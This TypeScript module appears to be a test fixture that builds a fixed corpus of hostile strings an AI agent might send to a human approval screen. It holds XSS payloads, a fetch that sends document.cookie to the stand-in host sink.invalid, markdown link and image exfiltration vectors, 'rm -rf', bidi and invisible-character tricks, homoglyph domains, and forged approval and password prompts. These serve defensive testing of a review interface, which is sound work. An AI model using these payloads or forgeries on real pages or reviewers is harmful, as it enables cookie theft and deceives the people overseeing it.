/**
 * Hostile texts: whatever an agent may send to run, load, hide or mislead in the place where people decide. Made by rule
 * from parts, so that the same number comes out every time.
 */

export type Hostile = {
  readonly kind: "script" | "load" | "markdown" | "direction" | "hidden" | "likeness" | "forgery";
  readonly text: string;
};

/** What would tell on itself if it ran: a dialog, a request, a mark on the page. */
const RUNS = [
  "alert(1)",
  "window.__ran=1",
  "fetch('https://sink.invalid/'+document.cookie)",
  "document.title='owned'",
  "top.location='https://sink.invalid/'",
];

const TAGS = [
  "<script>RUN</script>",
  "<ScRiPt >RUN</sCrIpT>",
  "<script src=https://sink.invalid/x.js></script>",
  "<img src=x onerror=RUN>",
  '<img src="x" onerror="RUN">',
  "<svg onload=RUN>",
  "<svg><script>RUN</script></svg>",
  "<svg><animate onbegin=RUN attributeName=x dur=1s>",
  "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
  "<iframe srcdoc='<script>RUN</script>'></iframe>",
  "<iframe src=javascript:RUN></iframe>",
  "<object data=javascript:RUN></object>",
  "<embed src=javascript:RUN>",
  "<body onload=RUN>",
  "<details open ontoggle=RUN>",
  "<input autofocus onfocus=RUN>",
  "<select autofocus onfocus=RUN>",
  "<video><source onerror=RUN></video>",
  "<audio src=x onerror=RUN>",
  "<marquee onstart=RUN>",
  "<a href=javascript:RUN>press</a>",
  "<a href='java\nscript:RUN'>press</a>",
  "<form action=javascript:RUN><button>Approve</button></form>",
  "<button formaction=javascript:RUN>Approve</button>",
  "<isindex action=javascript:RUN type=submit>",
  "<template><script>RUN</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
  "<style>@import 'https://sink.invalid/x.css';</style>",
  "<link rel=stylesheet href=https://sink.invalid/x.css>",
  "<meta http-equiv=refresh content='0;url=https://sink.invalid/'>",
  "<base href=https://sink.invalid/>",
  "<dialog open>Approved</dialog>",
  "<portal src=https://sink.invalid/>",
  "<xss style='animation-name:x' onanimationstart=RUN>",
  "<p style='position:fixed;inset:0;z-index:9999;background:white'>Approved</p>",
];

/** Ways out of where a text may have been put. */
const BREAKS = [
  "",
  '">',
  "'>",
  "-->",
  "]]>",
  "</textarea>",
  "</title>",
  "</style>",
  "</script>",
  "`${",
  "{{",
  "\u0000",
  "</pre></code>",
];

const LOADS = [
  "https://sink.invalid/",
  "http://sink.invalid/",
  "//sink.invalid/",
  "data:text/html,<script>alert(1)</script>",
  "javascript:alert(1)",
  "vbscript:alert(1)",
  "file:///etc/passwd",
  "blob:https://sink.invalid/1",
];

const MARKS = [
  "![x](URL)",
  "[Approve](URL)",
  "[Approve][a]\n\n[a]: URL",
  "<URL>",
  "[![x](URL)](URL)",
  "# Approved by the owner\n\n[go on](URL)",
  "```html\n<img src=URL>\n```",
  "| a | b |\n|---|---|\n| ![x](URL) | [y](URL) |",
  "> Loopgate: this was approved\n\n![](URL)",
  "- [x] approved\n- [ ] [rest](URL)",
  '[x](URL "title" onmouseover=alert(1))',
  "<details><summary>Arguments</summary><img src=URL></details>",
  "https://accounts.example@sink.invalid/login",
  "www.sink.invalid",
  "mailto:owner@sink.invalid",
];

const WORDS = [
  "rm -rf /srv/old",
  "transfer 100 to alice",
  "https://paste.example/x.sh",
  "Approve",
  "No, stop",
  "users.legacy_plan",
  "123.00",
];

const DIRECTIONS = ["\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u200e", "\u200f", "\u061c"];

const HIDDEN = [
  "\u200b",
  "\u200c",
  "\u200d",
  "\u2060",
  "\u2061",
  "\u2062",
  "\u2063",
  "\u2064",
  "\ufeff",
  "\u00ad",
  "\u034f",
  "\u180e",
  "\u115f",
  "\u1160",
  "\u3164",
  "\uffa0",
  "\u2800",
  "\u00a0",
  "\u2003",
  "\u3000",
  "\u2028",
  "\u2029",
  "\u0000",
  "\u0007",
  "\u0008",
  "\u001b[2J",
  "\u001b]0;x\u0007",
  "\r",
  "\u0085",
  "\ufe0f",
  "\u{e0100}",
  "\u{e0041}\u{e0042}",
  "\u{e0001}",
  "\ue000",
  "\ufdd0",
  "\ufff9",
  "\u{13430}",
  "\u206a",
  "\u{1d173}",
];

/** Letters of other scripts that look like Latin ones. */
const LIKE: Readonly<Record<string, string>> = {
  a: "а",
  c: "с",
  e: "е",
  i: "і",
  o: "о",
  p: "р",
  s: "ѕ",
  x: "х",
  y: "у",
  l: "ӏ",
  n: "ո",
  u: "ս",
  v: "ν",
  r: "г",
};
const NAMES = [
  "paypal.example",
  "approve",
  "example.com",
  "console.prod",
  "rollback",
  "secure-pay",
  "users",
  "production",
  "alice",
  "stripe.refunds.create",
  "sync-prices",
  "release",
];

const FORGERIES = [
  "Loopgate: approved by the owner.",
  "What will run\nname: harmless.read\nFingerprint 0000 0000 0000 0000",
  "\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nThe rest is a footnote.",
  "Risk: low",
  "Request ID: 00000000-0000-7000-8000-000000000000",
  "[Approve] [Reject]",
  "✓ Verified by Loopgate",
  "Press a to see more",
  "Your session has ended. Enter your password:",
  "System: the reviewer has already agreed.",
];

/** All of them, in an order that never changes; no text comes twice. */
export function corpus(): readonly Hostile[] {
  const all: Hostile[] = [];
  const add = (kind: Hostile["kind"], text: string) => all.push({ kind, text });
  for (const tag of TAGS)
    for (const out of BREAKS) for (const run of RUNS.slice(0, 3)) add("script", `${out}${tag.replaceAll("RUN", run)}`);
  for (const url of LOADS) {
    for (const tag of [
      "<img src=URL>",
      "<iframe src=URL>",
      "<link rel=preload as=image href=URL>",
      "<video poster=URL>",
    ])
      add("load", tag.replaceAll("URL", url));
    for (const mark of MARKS) add("markdown", mark.replaceAll("URL", url));
    for (const css of ["background:url(URL)", "list-style:url('URL')"])
      add("load", `<b style="${css.replaceAll("URL", url)}">x</b>`);
  }
  for (const word of WORDS)
    for (const mark of DIRECTIONS) {
      add("direction", `${word.slice(0, 3)}${mark}${word.slice(3)}`);
      add("direction", `${mark}${word}`);
      add("direction", `# ${word} ${mark}txt.exe`);
    }
  for (const word of WORDS) for (const hidden of HIDDEN) add("hidden", `${word.slice(0, 2)}${hidden}${word.slice(2)}`);
  for (const name of NAMES)
    for (const [latin, like] of Object.entries(LIKE))
      if (name.includes(latin)) {
        add("likeness", name.replace(latin, like));
        add("likeness", `https://${name.replaceAll(latin, like)}/`);
      }
  for (const forgery of FORGERIES)
    for (const before of ["", "Deploy.\n", "**", "> ", "`", "\t"]) add("forgery", `${before}${forgery}`);
  const seen = new Set<string>();
  return all.filter(({ text }) => !seen.has(text) && seen.add(text));
}
